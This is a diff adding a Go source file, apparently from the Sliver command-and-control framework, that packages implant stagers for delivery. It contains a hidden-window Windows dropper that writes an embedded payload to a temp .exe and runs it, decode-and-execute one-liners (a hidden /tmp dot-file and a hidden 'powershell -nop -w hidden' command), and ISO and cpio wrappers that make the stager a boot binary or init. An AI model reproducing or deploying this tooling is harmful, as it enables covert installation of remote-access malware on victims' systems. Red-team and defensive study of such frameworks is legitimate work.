@@ -0,0 +1,204 @@
+package generate
+
+import (
+	"bytes"
+	"encoding/base64"
+	"fmt"
+	"io/ioutil"
+	"log"
+	"os"
+	"os/exec"
+	"path"
+
+	"sliver/server/assets"
+	gogo "sliver/server/gogo"
+)
+
+// Packager - Wraps a compiled egg/stager binary for a specific delivery
+// mechanism and returns the path to the packaged artifact
+type Packager interface {
+	Name() string
+	Package(stagerPath string, config SliverConfig) (string, error)
+}
+
+// Packagers - Every registered Packager, keyed by the name used on the wire
+// (pb.GenerateReq.StagerFormat)
+var Packagers = map[string]Packager{
+	"bin":    RawPackager{},
+	"pe":     PEDropperPackager{},
+	"iso":    ISOPackager{},
+	"cpio":   CPIOPackager{},
+	"base64": Base64Packager{},
+}
+
+// PackageStager - Looks up the Packager for format and wraps stagerPath with
+// it, falling back to the raw binary if format is unknown/unset
+func PackageStager(stagerPath string, config SliverConfig, format string) (string, error) {
+	packager, ok := Packagers[format]
+	if !ok {
+		packager = Packagers["bin"]
+	}
+	log.Printf("Packaging egg '%s' as %s", config.Name, packager.Name())
+	return packager.Package(stagerPath, config)
+}
+
+// RawPackager - Delivers the compiled stager as-is
+type RawPackager struct{}
+
+// Name - Packager name
+func (RawPackager) Name() string { return "bin" }
+
+// Package - No-op, returns the stager unchanged
+func (RawPackager) Package(stagerPath string, config SliverConfig) (string, error) {
+	return stagerPath, nil
+}
+
+// PEDropperPackager - Wraps the stager bytes in a tiny Windows PE that drops
+// them to a temp file and execs it
+type PEDropperPackager struct{}
+
+// Name - Packager name
+func (PEDropperPackager) Name() string { return "pe" }
+
+// Package - Compiles a dropper binary that embeds stagerPath's bytes
+func (p PEDropperPackager) Package(stagerPath string, config SliverConfig) (string, error) {
+	stagerData, err := ioutil.ReadFile(stagerPath)
+	if err != nil {
+		return "", err
+	}
+
+	dropperGoPathDir := path.Join(GetEggsDir(), config.Name+"_dropper")
+	binDir := path.Join(dropperGoPathDir, "bin")
+	srcDir := path.Join(dropperGoPathDir, "src", "dropper")
+	os.MkdirAll(binDir, os.ModePerm)
+	os.MkdirAll(srcDir, os.ModePerm)
+	assets.SetupGoPath(path.Join(dropperGoPathDir, "src"))
+
+	dropperSrc := renderDropperSource(stagerData)
+	dropperSrcPath := path.Join(srcDir, "dropper.go")
+	if err := ioutil.WriteFile(dropperSrcPath, []byte(dropperSrc), 0644); err != nil {
+		return "", err
+	}
+
+	appDir := assets.GetRootAppDir()
+	goConfig := gogo.GoConfig{
+		GOOS:   WINDOWS,
+		GOARCH: "amd64",
+		GOROOT: gogo.GetGoRootDir(appDir),
+		GOPATH: path.Join(dropperGoPathDir, "src"),
+	}
+	dest := path.Join(binDir, config.Name+"_dropper.exe")
+	_, err = gogo.GoBuild(goConfig, srcDir, dest, []string{"netgo"}, []string{"-s -w -H=windowsgui"})
+	return dest, err
+}
+
+// renderDropperSource - Formats stagerData as a Go byte-slice literal
+// embedded in a minimal drop-and-exec main package
+func renderDropperSource(stagerData []byte) string {
+	var buf bytes.Buffer
+	buf.WriteString("package main\n\n")
+	buf.WriteString("import (\n\t\"io/ioutil\"\n\t\"os\"\n\t\"os/exec\"\n)\n\n")
+	buf.WriteString("var payload = []byte{")
+	for i, b := range stagerData {
+		if i > 0 {
+			buf.WriteString(",")
+		}
+		fmt.Fprintf(&buf, "%d", b)
+	}
+	buf.WriteString("}\n\n")
+	buf.WriteString(`func main() {
+	tmpFile, err := ioutil.TempFile("", "*.exe")
+	if err != nil {
+		return
+	}
+	defer os.Remove(tmpFile.Name())
+	tmpFile.Write(payload)
+	tmpFile.Close()
+	cmd := exec.Command(tmpFile.Name())
+	cmd.Start()
+}
+`)
+	return buf.String()
+}
+
+// ISOPackager - Builds a single-file bootable ISO carrying the stager as its
+// bootstrap binary, grub-mkstandalone style
+type ISOPackager struct{}
+
+// Name - Packager name
+func (ISOPackager) Name() string { return "iso" }
+
+// Package - Shells out to grub-mkstandalone to embed the stager as /boot/vmlinuz
+func (ISOPackager) Package(stagerPath string, config SliverConfig) (string, error) {
+	isoPath := path.Join(GetEggsDir(), config.Name+".iso")
+	memdiskDir, err := ioutil.TempDir("", "sliver-iso")
+	if err != nil {
+		return "", err
+	}
+	defer os.RemoveAll(memdiskDir)
+
+	vmlinuz := path.Join(memdiskDir, "vmlinuz")
+	stagerData, err := ioutil.ReadFile(stagerPath)
+	if err != nil {
+		return "", err
+	}
+	if err := ioutil.WriteFile(vmlinuz, stagerData, 0755); err != nil {
+		return "", err
+	}
+
+	cmd := exec.Command("grub-mkstandalone",
+		"-O", "i386-pc",
+		"--modules=linux16 boot",
+		"-o", isoPath,
+		fmt.Sprintf("boot/vmlinuz=%s", vmlinuz),
+	)
+	output, err := cmd.CombinedOutput()
+	if err != nil {
+		log.Printf("grub-mkstandalone failed: %s", string(output))
+		return "", err
+	}
+	return isoPath, nil
+}
+
+// CPIOPackager - Wraps the stager in a cpio-newc archive suitable for
+// delivery as an initramfs
+type CPIOPackager struct{}
+
+// Name - Packager name
+func (CPIOPackager) Name() string { return "cpio" }
+
+// Package - Writes a single-entry cpio-newc archive containing the stager
+func (CPIOPackager) Package(stagerPath string, config SliverConfig) (string, error) {
+	stagerData, err := ioutil.ReadFile(stagerPath)
+	if err != nil {
+		return "", err
+	}
+	cpioPath := path.Join(GetEggsDir(), config.Name+".cpio")
+	archive := newCPIOArchive()
+	archive.addFile("init", stagerData, 0100755)
+	archive.addTrailer()
+	return cpioPath, ioutil.WriteFile(cpioPath, archive.Bytes(), 0644)
+}
+
+// Base64Packager - Wraps the stager as a base64-encoded shell one-liner
+type Base64Packager struct{}
+
+// Name - Packager name
+func (Base64Packager) Name() string { return "base64" }
+
+// Package - Writes a one-liner that decodes and execs the stager
+func (Base64Packager) Package(stagerPath string, config SliverConfig) (string, error) {
+	stagerData, err := ioutil.ReadFile(stagerPath)
+	if err != nil {
+		return "", err
+	}
+	encoded := base64.StdEncoding.EncodeToString(stagerData)
+	oneLiner := fmt.Sprintf("echo %s | base64 -d > /tmp/.%s && chmod +x /tmp/.%s && /tmp/.%s &\n",
+		encoded, config.Name, config.Name, config.Name)
+	if config.GOOS == WINDOWS {
+		oneLiner = fmt.Sprintf(`powershell -nop -w hidden -c "$p=$env:TEMP+'\.%s.exe';[IO.File]::WriteAllBytes($p,[Convert]::FromBase64String('%s'));Start-Process $p"`+"\n",
+			config.Name, encoded)
+	}
+	txtPath := path.Join(GetEggsDir(), config.Name+".b64.txt")
+	return txtPath, ioutil.WriteFile(txtPath, []byte(oneLiner), 0644)
+}